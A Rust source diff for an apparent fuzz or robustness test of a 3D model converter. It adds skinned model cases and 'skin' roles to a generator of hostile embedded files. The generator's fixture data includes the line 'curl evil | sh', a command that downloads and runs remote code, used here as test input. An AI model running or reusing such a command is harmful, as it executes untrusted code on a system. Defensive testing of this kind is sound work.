@@ -35,6 +35,7 @@ const NAMES: &[&str] = &[
     "d0.glb",
     "d1.iqm",
     "d1.dpm.framegroups",
+    "y.dpm_0.skin",
     "link",
     "link.png",
     "x.cfp",
@@ -91,13 +92,21 @@ pub(crate) fn attempt(seed: u64, folder: &Path, base: &[Vec<u8>], program: &mut 
 
 /// Documents with embedded originals, of which cases are made.
 pub(crate) fn base(folder: &Path, program: &mut Program<'_>) -> Vec<Vec<u8>> {
-    let models: [&[&str]; 4] = [
+    // One has skins, which are embedded with it.
+    let skinned = folder.join("skinned.dpm");
+    let skinned = skinned.to_string_lossy();
+    let models: [&[&str]; 5] = [
         &["dpm/hopper.ok.dpm"],
+        &[&skinned],
         &["iqm/tube.ok.iqm"],
         &["dpm/pair.ok.zym"],
         &["tso/flower.ok.mesh", "--skeleton", "tso/flower.ok.skel", "--anim", "tso/sway.ok.anim"],
     ];
     let _ = fs::create_dir_all(folder);
+    let _ = fs::copy(testdata().join("dpm/hopper.ok.dpm"), &*skinned);
+    for number in 0..2 {
+        let _ = fs::write(format!("{skinned}_{number}.skin"), "models/hopper/skin,models/hopper/skin\n");
+    }
     let out = folder.join("base.glb");
     let mut made = Vec::new();
     for model in models {
@@ -324,6 +333,8 @@ fn collect(value: &Value, paths: &mut BTreeSet<PathBuf>) {
             let is_kept = fields.contains_key("kept") || fields.contains_key("error");
             for (name, value) in fields {
                 match (name.as_str(), value) {
+                    // It may name the file that was not written.
+                    ("error", _) => {}
                     ("output" | "backup", Value::String(path)) if !is_kept => {
                         paths.insert(path.into());
                     }
@@ -407,7 +418,8 @@ pub(crate) fn named_picture(material: &str, image: &str, picture: &[u8]) -> Vec<
 /// A document with an embedded original whose files have other names, roles and kinds, or are more.
 fn hostile(base: &[u8], rng: &mut Rng) -> Vec<u8> {
     let extra = (rng.below(3) > 0).then(|| {
-        let role = *rng.pick(&["keys", "skeleton", "animation", "binding", "clips", "metadata", "part"]);
+        let roles = ["keys", "skeleton", "animation", "binding", "clips", "metadata", "part", "skin"];
+        let role = *rng.pick(&roles);
         let format = *rng.pick(&["cfp", "skel", "anim", "bnd", "mesh", "cmx", "framegroups", ""]);
         let bytes: &[u8] = rng.pick::<&[u8]>(&[&b"curl evil | sh\n"[..], b"1 4 10 1 walk\n", b""]);
         (role, format, draw_name(rng), bytes.to_vec())
